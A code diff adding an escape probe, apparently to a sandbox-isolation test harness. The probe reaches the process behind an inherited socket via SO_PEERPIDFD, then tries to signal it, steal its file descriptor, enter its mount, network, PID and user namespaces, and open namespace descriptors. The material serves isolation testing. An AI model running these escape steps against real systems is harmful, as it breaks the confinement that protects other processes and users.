@@ -63,6 +63,21 @@ def socket_s_other_end(aim: Aim, loot: Loot) -> None:
 
 
 @attack
+def peer_by_descriptor(aim: Aim, loot: Loot) -> None:
+    """SO_PEERPIDFD: a descriptor of whoever made the attempt's socket, past process namespaces."""
+    socket = reach("socket")
+    link = socket.socket(fileno=os.dup(3))
+    pidfd = link.getsockopt(socket.SOL_SOCKET, 77)
+    loot.attempt("signal", lambda: syscall("pidfd_send_signal", pidfd, 0, 0, 0) == 0 and "sent")
+    loot.attempt("descriptor", lambda: syscall("pidfd_getfd", pidfd, 0, 0) >= 0 and "fetched")
+    for name, flag in {"mount": 0x20000, "network": 0x40000000, "process": 0x20000000, "user": 0x10000000}.items():
+        loot.attempt(f"{name} namespace", lambda flag=flag: syscall("setns", pidfd, flag) == 0 and "entered")
+    for number in range(0xFF01, 0xFF0B):
+        # PIDFD_GET_*_NAMESPACE of newer kernels.
+        loot.attempt(f"namespace descriptor {number:#x}", lambda number=number: fcntl.ioctl(pidfd, number) >= 0 and "opened")
+
+
+@attack
 def passed_around(aim: Aim, loot: Loot) -> None:
     """A socket of the attempt sent to whoever listens outside."""
     socket = reach("socket")
